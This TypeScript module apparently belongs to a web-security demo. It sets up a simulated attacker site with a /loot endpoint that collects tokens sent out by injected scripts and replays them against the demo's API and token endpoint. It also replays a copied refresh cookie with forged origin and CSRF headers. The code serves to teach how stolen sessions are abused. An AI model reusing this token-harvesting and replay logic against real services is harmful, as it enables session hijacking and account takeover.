import express, { type Express, type RequestHandler } from 'express'
import { securityHeaders } from './security-headers.js'
import { audiences, clientIds, type Origins, type Page, type Role } from './stage/addresses.js'
import type { Journal } from './stage/journal.js'
import { loopbackFetch } from './stage/loopback-fetch.js'
import { pages } from './stage/pages.js'

export interface Thief {
  readonly site: Express
  /** Plays a copy of the victim's disk in the wrong hands: the cookies that were sent to a host, kept by the thief. */
  readonly copyCookies: RequestHandler
}

const KEPT = 20

/** The thief: a site of its own, and a server that is no browser and keeps to no rule of browsers. */
export function createThief({ api, auth, app, bff, idp, plain }: Origins, { note, answer }: Journal): Thief {
  const tell = (to: Role, text: string, page: Page): void => {
    note({ from: 'evil', to, text, outcome: 'refused', page })
  }
  const copies: string[] = []

  const site = express()
  site.use(securityHeaders({ connect: [auth, bff, api, plain], frame: [auth, bff], form: [auth, bff] }))
  site.use(pages('evil'))
  // What came of a forged request no browser tells its sender. The servers do, here.
  site.get('/journal', answer)

  /** Where injected scripts send what they found. The thief tries it at once, from here. */
  site.post('/loot', express.text({ type: () => true, limit: '64kb' }), async (req, res) => {
    // Whoever brings something shall not see an error.
    res.set('cross-origin-resource-policy', 'cross-origin').status(204).end()
    const loot = String(req.body)
    const accessToken = /"access_token":"([^"]+)"/.exec(loot.replaceAll('\\', ''))?.[1]
    const refreshToken = /"refresh_token":"([^"]+)"/.exec(loot.replaceAll('\\', ''))?.[1]
    if (accessToken !== undefined) {
      const { status } = await loopbackFetch(`${api}/orders`, { headers: { authorization: `Bearer ${accessToken}` } })
      tell('api', `With the stolen visa: ${String(status)}.`, 'careless')
    }
    if (refreshToken !== undefined) {
      const body = new URLSearchParams({
        grant_type: 'refresh_token',
        client_id: clientIds.careless,
        refresh_token: refreshToken,
        resource: audiences.orders,
      })
      const { status } = await loopbackFetch(`${idp}/token`, { method: 'POST', body })
      tell('idp', `With the stolen renewal: ${String(status)}.`, 'careless')
    }
  })

  /** Presents an old refresh cookie. Headers that a browser would not let a page forge are no obstacle to a server. */
  site.post('/replay', async (_req, res) => {
    const copy = copies.at(-2)
    if (copy === undefined) {
      res.status(409).json({ error: 'no_old_copy' })
      return
    }
    const headers = { cookie: copy, origin: app, 'sec-fetch-site': 'same-site', 'x-csrf': '1' }
    const { status } = await loopbackFetch(`${auth}/session/refresh`, { method: 'POST', headers })
    tell('auth', `An old renewal from a copied disk: ${String(status)}.`, 'app')
    res.json({ status })
  })

  return {
    site,
    copyCookies(req, _res, next) {
      const { cookie } = req.headers
      if (cookie !== undefined && !copies.includes(cookie)) copies.push(cookie)
      copies.splice(0, copies.length - KEPT)
      next()
    },
  }
}
